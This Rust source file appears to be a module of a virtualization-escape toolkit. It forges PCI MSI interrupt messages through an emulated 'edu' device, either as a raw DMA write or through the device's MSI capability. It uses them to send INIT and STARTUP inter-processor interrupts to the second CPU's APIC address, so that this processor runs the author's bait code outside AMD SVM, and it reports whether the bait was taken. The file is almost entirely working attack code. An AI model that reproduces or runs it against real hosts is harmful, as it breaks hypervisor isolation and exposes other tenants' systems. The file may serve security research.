//! Interrupt messages (PCI 3.0, 6.8) that devices send: as a transfer to an address in their range, or as their own interrupt, whose
//! message software says.

use super::edu::Edu;
use crate::attack::Kernel;
use crate::bait::Bait;
use crate::ipi::{ASSERT, INIT, STARTUP};
use std::thread::sleep;
use std::time::Duration;

const MSI: u8 = 5;
const MSI_CONTROL: u64 = 2;
const MSI_ENABLE: u8 = 1;
/// Of a capability with 64-bit addresses, which this device has.
const MSI_ADDRESS: u64 = 4;
const MSI_DATA: u64 = 12;

/// To the second processor.
const SECOND: u64 = 0xfee0_1000;

/// A message as a transfer of 4 bytes.
pub fn by_write(address: u64, data: u32) -> anyhow::Result<()> {
    Edu::open()?.write(address, &data.to_le_bytes())
}

/// A message as the device's interrupt.
pub fn by_capability(address: u64, data: u32) -> anyhow::Result<()> {
    let edu = Edu::open()?;
    for at in edu.function.capabilities(MSI)? {
        edu.function.write(at + MSI_ADDRESS, &address.to_le_bytes())?;
        edu.function.write(at + MSI_DATA, &data.to_le_bytes()[..2])?;
        edu.function.write(at + MSI_CONTROL, &[MSI_ENABLE])?;
        edu.interrupt();
        sleep(Duration::from_millis(20));
        edu.function.write(at + MSI_CONTROL, &[0])?;
    }
    Ok(())
}

/// Has the second processor run code of ours outside SVM.
pub fn start_up(send: fn(u64, u32) -> anyhow::Result<()>) -> anyhow::Result<()> {
    let kernel = Kernel::open()?;
    let bait = Bait::lay(&kernel)?;
    for data in [INIT | ASSERT, STARTUP | bait.vector(), STARTUP | bait.vector()] {
        send(SECOND, data)?;
    }
    sleep(Duration::from_millis(50));
    let taken = bait.taken()?;
    bait.clear()?;
    println!("dma: the second processor {}", if taken { "was started" } else { "stays" });
    Ok(())
}
